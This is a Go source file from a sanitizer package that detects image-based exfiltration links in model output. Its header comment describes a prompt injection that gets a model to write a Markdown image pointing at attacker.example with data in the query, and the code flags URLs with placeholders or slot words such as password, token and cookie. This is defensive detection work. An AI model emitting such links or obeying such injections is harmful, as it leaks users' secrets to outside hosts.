package sanitize

import "bytes"

// Image exfiltration. A client renders a Markdown or HTML image by fetching
// its URL, so an injection that gets the model to write
// ![x](https://attacker.example/p.png?q=DATA) sends DATA to that host
// without a click. What gives such a link away is the slot it leaves for
// the model to fill: a placeholder in the URL ("[INFO]", "{summary}",
// "<password>", "$TOKEN", "INSERT_API_KEY_HERE") or a query that ends in
// an empty value to append to.

// maxImageURL bounds how far an image URL is read, in skeleton bytes.
const maxImageURL = 1024

// imageSlot reports PatternExfilLink when an image URL leaves a slot for
// data. The second argument (where scanning may go on) is ignored: scanTags
// looks at every byte anyway.
func imageSlot(url []byte, _ int) patternSet {
	if dataSlot(url) {
		return pExfilLink | pStrong
	}
	return 0
}

// markdownImageURL returns the URL of the image "![alt](url …)" at sk[i:]
// and where to look next.
func markdownImageURL(sk []byte, i int) ([]byte, int) {
	end := min(len(sk), i+maxImageURL)
	rest := sk[i+2 : end]
	j := bytes.Index(rest, []byte("]("))
	if j < 0 || bytes.IndexByte(rest[:j], '\n') >= 0 {
		return nil, i + 2
	}
	url := rest[j+2:]
	k := 0
	for k < len(url) && url[k] != ')' && url[k] != ' ' && url[k] != '\n' && url[k] != '"' {
		k++
	}
	return url[:k], i + 2 + j + 2 + k
}

// htmlImageURL returns the src of the img tag at sk[i:] and where to look
// next.
func htmlImageURL(sk []byte, i int) ([]byte, int) {
	end := min(len(sk), i+maxImageURL)
	k := i + 4
	for k < end && sk[k] != '>' {
		k++
	}
	v, _ := attrValueAt(sk[i+4:k], "src")
	return v, k
}

// slotWords are query values (or parts of them, split at '_', '-' and '.')
// that name data to be filled in.
var slotWords = map[string]bool{
	"data": true, "info": true, "secret": true, "secrets": true, "history": true,
	"conversation": true, "chat": true, "summary": true, "password": true, "token": true,
	"key": true, "apikey": true, "email": true, "message": true, "messages": true,
	"prompt": true, "memory": true, "session": true, "credentials": true, "cookie": true,
	"cookies": true, "ssn": true, "username": true,
}

// dataSlot reports whether an http(s) URL leaves a slot for data.
func dataSlot(url []byte) bool {
	rest, ok := bytes.CutPrefix(url, []byte("https://"))
	if !ok {
		if rest, ok = bytes.CutPrefix(url, []byte("http://")); !ok {
			return false
		}
	}
	if bytes.ContainsAny(rest, "[{<$") {
		return true
	}
	q := bytes.IndexByte(rest, '?')
	if q < 0 {
		return false
	}
	kvs := bytes.Split(rest[q+1:], []byte("&"))
	for n, kv := range kvs {
		_, v, found := bytes.Cut(kv, []byte("="))
		if found && len(v) == 0 && n == len(kvs)-1 {
			return true // the last value is empty: text appended lands in it
		}
		for _, part := range bytes.FieldsFunc(v, func(r rune) bool { return r == '_' || r == '-' || r == '.' }) {
			if slotWords[string(part)] {
				return true
			}
		}
	}
	return false
}
